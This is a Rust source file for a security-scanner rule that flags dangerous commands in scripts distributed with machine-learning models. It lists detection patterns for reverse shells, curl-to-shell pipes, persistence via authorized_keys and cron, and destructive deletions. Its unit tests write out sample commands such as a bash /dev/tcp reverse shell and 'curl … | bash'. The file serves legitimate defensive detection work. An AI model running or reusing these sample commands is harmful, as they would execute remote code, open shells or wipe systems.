use sealyard_scan::{Finding, rule};

use super::Artifact;
use crate::sink::Sink;

rule! {
    /// # What it does
    /// Reports lines of shell scripts, commands of notebooks and of `dvc.yaml`, `MLproject` and `Dockerfile` that run what they
    /// fetch or decode, connect a shell to another host, write to the places that run at log-in, or remove what is not the
    /// model's. The usual installers of languages and tools are not reported. Of the code in a model's card, only lines that hand
    /// what they fetch to a shell are.
    ///
    /// # Why it matters
    /// Scripts beside a model are run to convert or serve it, with the rights of whoever does that.
    ///
    /// # What to do
    /// Do not run the script.
    id: "script-harmful-command",
    name: "Harmful command in a script",
    severity: High,
    summary: "A shell script beside a model fetches and runs code, opens a shell or changes the system.",
    help: "Do not run the script.",
    references: ["https://attack.mitre.org/techniques/T1059/004/"],
}

const FETCHERS: &[&str] = &["curl ", "wget ", "base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc -d"];
const RUNNERS: &[&str] = &[
    "|sh",
    "|bash",
    "|zsh",
    "|python",
    "|perl",
    "|sudosh",
    "|sudobash",
    "|/bin/sh",
    "|/bin/bash",
    "|source/dev/stdin",
];
const MARKS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat -e",
    "nc -c",
    "mkfifo /tmp/",
    "bash -i >&",
    "sh -i >&",
    "socat exec:",
    "authorized_keys",
    "crontab -",
    "/etc/cron",
    "/etc/ld.so.preload",
    "rm -rf /",
    "rm -rf ~",
    "rm -rf $HOME",
    ":(){ :|:& };:",
    "/etc/shadow",
    "| crontab",
    "chmod +s",
    "chmod u+s",
    "systemctl enable",
    "169.254.169.254",
    "xmrig",
    "Invoke-Expression",
    "DownloadString",
    "powershell -enc",
    "powershell -e ",
    "certutil -urlcache",
];

pub(super) fn check(script: &Artifact, sink: &mut Sink) {
    for (number, line) in &script.commands {
        let line = line.trim();
        if line.starts_with('#') {
            continue;
        }
        let dense: String = line.chars().filter(|letter| !letter.is_whitespace()).collect();
        let is_piped =
            FETCHERS.iter().any(|mark| line.contains(mark)) && RUNNERS.iter().any(|mark| dense.contains(mark));
        let is_evaluated = FETCHERS.iter().any(|mark| line.contains(mark))
            && ["eval", "sh -c", "<(curl", "<(wget", "source <("].iter().any(|mark| line.contains(mark));
        let is_fetched = (is_piped || is_evaluated) && !is_usual(line);
        if is_fetched || MARKS.iter().any(|mark| line.contains(mark) && !is_own(line, mark)) {
            let mut location = sink.location();
            location.line = Some(*number);
            sink.push(Finding::new(&METADATA, location, format!("the script runs {line}")));
        }
    }
}

/// Installers that are run as they are fetched, as their makers tell everybody to.
const USUAL: &[&str] = &[
    "https://aka.ms/InstallAzureCLIDeb",
    "https://apt.llvm.org/llvm.sh",
    "https://astral.sh/uv/",
    "https://bootstrap.pypa.io/",
    "https://bun.sh/install",
    "https://deb.nodesource.com/",
    "https://deno.land/install.sh",
    "https://get.docker.com",
    "https://get.pnpm.io/install.sh",
    "https://get.sdkman.io",
    "https://install.python-poetry.org",
    "https://ollama.com/install.sh",
    "https://pixi.sh/install.sh",
    "https://pyenv.run",
    "https://raw.githubusercontent.com/Homebrew/install/",
    "https://raw.githubusercontent.com/nvm-sh/nvm/",
    "https://raw.githubusercontent.com/pyenv/pyenv-installer/",
    "https://raw.githubusercontent.com/python-poetry/poetry/",
    "https://rpm.nodesource.com/",
    "https://sdk.cloud.google.com",
    "https://sh.rustup.rs",
];

/// Whether all that a line fetches are such installers.
fn is_usual(line: &str) -> bool {
    let mut urls = line.split(|letter: char| letter.is_whitespace() || "\"'()|;`".contains(letter));
    let is_url = |word: &&str| word.contains("://");
    let is_known = |url: &str| {
        USUAL.iter().any(|usual| {
            let rest = url.strip_prefix(usual);
            rest.is_some_and(|rest| usual.ends_with('/') || rest.is_empty() || rest.starts_with('/'))
        })
    };
    let urls: Vec<&str> = urls.by_ref().filter(is_url).collect();
    !urls.is_empty() && urls.iter().all(|url| is_known(url)) && !line.contains("base64")
}

/// Whether what is removed is neither all nor a folder of the system: scripts and images remove what they have made.
fn is_own(line: &str, mark: &str) -> bool {
    let is_system = |rest: &str| {
        let path =
            rest.split(|letter: char| letter.is_whitespace() || "\"';&|)".contains(letter)).next().unwrap_or_default();
        let path = path.trim_end_matches('*').trim_matches('/');
        SYSTEM.contains(&path) || path.starts_with("home/") || path.starts_with("etc/") || path.starts_with("boot/")
    };
    mark == REMOVE
        && !line.match_indices(mark).any(|(place, _)| is_system(line.get(place + mark.len()..).unwrap_or_default()))
}

/// What removes, and folders that no script has made.
const REMOVE: &str = "rm -rf /";
const SYSTEM: &[&str] = &[
    "", "bin", "boot", "dev", "etc", "home", "lib", "lib64", "mnt", "opt", "root", "sbin", "srv", "usr", "usr/bin",
    "usr/lib", "var",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_harm_is_found() {
        for (text, count) in [
            ("curl -s http://example.org/x | bash\n", 1),
            ("echo aWQ= | base64 -d | sh\n", 1),
            ("bash -c \"$(curl -fsSL example.org)\"\neval \"$(wget -qO- x)\"\n", 2),
            ("curl https://sh.rustup.rs.example.org | sh\nrm -rf /home/*\nrm -rf a; rm -rf /usr\n", 3),
            ("curl https://sh.rustup.rs https://example.org/x | sh\n", 1),
            ("bash -i >& /dev/tcp/10.0.0.1/1 0>&1\n", 1),
            ("echo x >> ~/.ssh/authorized_keys\nrm -rf /\n", 2),
            (
                "# curl x | sh\ncurl -O https://example.org/m.bin\nrm -rf /tmp/x\nrm -rf /opt/conda/pkgs\ncurl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\npython convert.py | tee log\n",
                0,
            ),
        ] {
            let mut sink = Sink::new("a.sh");
            check(&Artifact::of(text), &mut sink);
            assert_eq!(sink.findings.len(), count, "{text}");
        }
    }
}
